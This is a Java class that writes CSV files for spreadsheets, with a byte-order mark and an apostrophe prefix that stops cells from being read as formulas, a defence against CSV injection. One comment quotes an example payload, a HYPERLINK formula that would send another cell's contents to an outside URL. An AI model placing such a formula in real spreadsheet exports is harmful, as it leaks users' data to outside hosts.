package org.themebot.export;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;

/**
 * Every CSV themebot writes, made for spreadsheets: RFC 4180 with CRLF, UTF-8 with a byte-order mark
 * (without it Excel on Windows reads "–" as "â€“"), and no cell a spreadsheet would take for a
 * formula: one beginning with {@code =}, {@code +}, {@code -}, {@code @}, TAB or CR is written with a
 * leading {@code '} (OWASP "CSV injection": {@code =HYPERLINK("http://…?leak="&A1,…)} would
 * otherwise carry other cells away).
 */
public final class SpreadsheetCsv {

    private static final String BYTE_ORDER_MARK = "\uFEFF";

    private SpreadsheetCsv() {
    }

    /** The file: the header row, then each row; every cell as {@link #cell} makes it. */
    public static byte[] write(List<String> header, List<List<String>> rows) {
        StringBuilder csv = new StringBuilder(BYTE_ORDER_MARK);
        try (CSVPrinter printer = new CSVPrinter(csv, CSVFormat.RFC4180)) {
            printer.printRecord(header.stream().map(SpreadsheetCsv::cell));
            for (List<String> row : rows) {
                printer.printRecord(row.stream().map(SpreadsheetCsv::cell));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e); // a StringBuilder does not throw; CSVPrinter's signature does
        }
        return csv.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** The text as typed, with a leading {@code '} when a spreadsheet would read it as a formula. */
    static String cell(String text) {
        return startsLikeAFormula(text) ? "'" + text : text;
    }

    /** Whether a spreadsheet would evaluate text typed into a cell: it begins with = + - @ TAB or CR. */
    static boolean startsLikeAFormula(String text) {
        return !text.isEmpty() && "=+-@\t\r".indexOf(text.charAt(0)) >= 0;
    }
}
